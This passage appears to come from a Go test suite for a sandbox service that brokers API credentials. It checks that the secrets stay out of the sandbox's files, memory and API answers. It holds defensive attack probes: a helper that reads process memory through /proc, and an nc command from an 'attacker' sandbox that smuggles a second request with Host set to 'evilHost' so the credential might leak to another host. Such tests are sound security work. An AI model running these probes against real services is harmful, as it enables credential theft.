			pid, _ := strconv.Atoi(strings.Split(p, "/")[2])
			pids = append(pids, pid)
		}
	}
	if len(pids) == 0 {
		t.Fatalf("no process of %s found", sb.ID)
	}
	return pids
}

// netNSOn is sandboxNetNS for a server other than the shared one.
func netNSOn(t *testing.T, srv *dsectest.Server, id string) string {
	t.Helper()
	node := srv.NodePid()
	m, _ := filepath.Glob(fmt.Sprintf("/proc/%d/root/run/dsec/*/netns/%s", node, id))
	if len(m) != 1 {
		t.Fatalf("network namespace of %s: found %v", id, m)
	}
	return m[0]
}

// memoryHolds reports whether any readable, writable mapping of pid holds
// needle.
func memoryHolds(pid int, needle []byte) (bool, error) {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return false, err
	}
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return false, err
	}
	defer mem.Close()
	re := regexp.MustCompile(`^([0-9a-f]+)-([0-9a-f]+) (r.)`)
	for _, line := range strings.Split(string(maps), "\n") {
		m := re.FindStringSubmatch(line)
		if m == nil {
			continue
		}
		start, _ := strconv.ParseUint(m[1], 16, 64)
		end, _ := strconv.ParseUint(m[2], 16, 64)
		if end-start > 256<<20 || strings.Contains(line, "[vvar]") {
			continue
		}
		buf := make([]byte, end-start)
		n, _ := mem.ReadAt(buf, int64(start))
		if strings.Contains(string(buf[:n]), string(needle)) {
			return true, nil
		}
	}
	return false, nil
}

func TestABrokeredSecretNeverEntersTheSandbox(t *testing.T) {
	srv, in := egressSrv(t)
	nb := egressNeighbour(t)
	sb := attacker(t, dsec.CreateOptions{Network: "egress", Policy: &dsec.Policy{
		Allow: []string{mirrorHost},
		Credentials: []dsec.Credential{
			{Name: "model-api"},
			{Host: inlineHost, Header: "X-Inline-Key", Value: inlineSecret},
		},
	}})
	secrets := []string{configSecret, inlineSecret}
	// A process that keeps what it fetched in its memory, and a file.
	sh(t, sb, "sh -c 'a=$(/tmp/netprobe get http://"+apiHost+"/headers); b=$(/tmp/netprobe get http://"+inlineHost+"/headers); echo \"$a$b\" > /tmp/answers; sleep 300' >/dev/null 2>&1 &")
	for i := 0; i < 100 && !strings.Contains(sh(t, sb, "cat /tmp/answers 2>/dev/null"), "X-Inline-Key"); i++ {
		time.Sleep(100 * time.Millisecond)
	}
	answers := sh(t, sb, "cat /tmp/answers 2>&1")
	t.Run("the model API got each credential", func(t *testing.T) {
		var got []string
		for _, h := range in.Headers() {
			got = append(got, h.Get("X-Api-Key"), h.Get("X-Inline-Key"))
		}
		for _, s := range secrets {
			if !strings.Contains(strings.Join(got, " "), s) {
				t.Errorf("the upstream never got %s...: %q", s[:10], got)
			}
		}
	})
	t.Run("the answers the sandbox got show them masked", func(t *testing.T) {
		if !strings.Contains(answers, "X-Api-Key: "+strings.Repeat("*", len(configSecret))) || !strings.Contains(answers, "X-Inline-Key: "+strings.Repeat("*", len(inlineSecret))) {
			t.Fatalf("answers %q", answers)
		}
	})
	t.Run("no file, environment or command line inside holds them", func(t *testing.T) {
		// By prefix, hash and length: the scan must not carry the
		// secrets in (its command line, its output through the agent).
		for _, sec := range secrets {
			sum := sha256.Sum256([]byte(sec))
			out := sh(t, sb, fmt.Sprintf("/tmp/netprobe scan -prefix sk-dsec- -sha256 %x -len %d / 2>&1; echo rc=$?", sum, len(sec)))
			if !strings.Contains(out, "found 0") || !strings.Contains(out, "rc=0") {
				t.Errorf("found %s... inside: %q", sec[:10], out)
			}
			t.Logf("%s...: %s", sec[:10], strings.TrimSpace(out))
		}
	})
	t.Run("the scan finds a secret where there is one", func(t *testing.T) {
		const planted = "sk-dsec-planted-0123456789abcdef"
		sum := sha256.Sum256([]byte(planted))
		out := sh(t, sb, fmt.Sprintf("echo %s > /tmp/planted; /tmp/netprobe scan -prefix sk-dsec- -sha256 %x -len %d / 2>&1; rm /tmp/planted", planted, sum, len(planted)))
		if !strings.Contains(out, "found: /tmp/planted") {
			t.Fatalf("the planted secret was not found: %q", out)
		}
	})
	t.Run("no process inside holds them in memory", func(t *testing.T) {
		pids := sandboxPids(t, srv, sb)
		for _, pid := range pids {
			for _, s := range secrets {
				found, err := memoryHolds(pid, []byte(s))
				if err != nil {
					continue // exited meanwhile
				}
				if found {
					cmd, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
					t.Errorf("process %d (%q) holds %s...", pid, cmd, s[:10])
				}
			}
		}
		t.Logf("scanned the memory of %d processes", len(pids))
		// The scan finds what is there: the masked answer.
		found := false
		for _, pid := range pids {
			if ok, _ := memoryHolds(pid, []byte("X-Inline-Key: *")); ok {
				found = true
			}
		}
		if !found {
			t.Errorf("the scan found not even the masked answer: it does not work")
		}
	})
	t.Run("the API never answers them", func(t *testing.T) {
		ctx := ctxFor(t, time.Minute)
		c := egressClient(t, keyA)
		info, err := c.Get(ctx, sb.ID)
		if err != nil {
			t.Fatal(err)
		}
		nw, err := sb.NetworkPolicy(ctx)
		if err != nil {
			t.Fatal(err)
		}
		list, err := c.List(ctx, "")
		if err != nil {
			t.Fatal(err)
		}
		all := fmt.Sprint(info, nw, list)
		for _, s := range secrets {
			if strings.Contains(all, s) {
				t.Errorf("an answer holds %s...", s[:10])
			}
		}
		if !strings.Contains(all, inlineHost) || !strings.Contains(all, "model-api") {
			t.Errorf("the answers do not name the credentials: %s", all)
		}
	})
	t.Run("the credential goes to its host only", func(t *testing.T) {
		before := len(in.Headers())
		// Another host on the brokered connection, then the host over
		// TLS (not brokered: no credential, and no rule allows it).
		out := sh(t, sb, fmt.Sprintf(`printf 'GET /headers HTTP/1.1\r\nHost: %s\r\n\r\nGET /headers HTTP/1.1\r\nHost: %s\r\n\r\n' | timeout 5 nc %s 80; `+
			`timeout 10 /tmp/netprobe get https://%s/headers; echo rc=$?`, apiHost, evilHost, in.Web[2], apiHost))
		if !strings.Contains(out, " 403 ") {
			t.Errorf("a second host on a brokered connection was not refused: %q", out)
		}
		for _, h := range in.Headers()[min(before+1, len(in.Headers())):] {
			if h.Get("X-Api-Key") != "" {
				t.Errorf("a request other than the brokered one carried the credential: %v", h)
			}
		}
	})
	t.Run("an unknown named credential is refused", func(t *testing.T) {
		_, err := egressClient(t, keyA).Create(ctxFor(t, time.Minute), dsec.CreateOptions{Image: "busybox", Network: "egress", Policy: &dsec.Policy{Credentials: []dsec.Credential{{Name: "no-such-credential"}}}})
		if kindOf(err) != "invalid" {
			t.Fatalf("an unknown credential name: %v", err)
		}
	})
	probing(t, sb, "get http://"+apiHost+"/headers", "get http://"+inlineHost+"/headers")
	nb.check(t)
	deleteLeavesNoRule(t, sb)
}
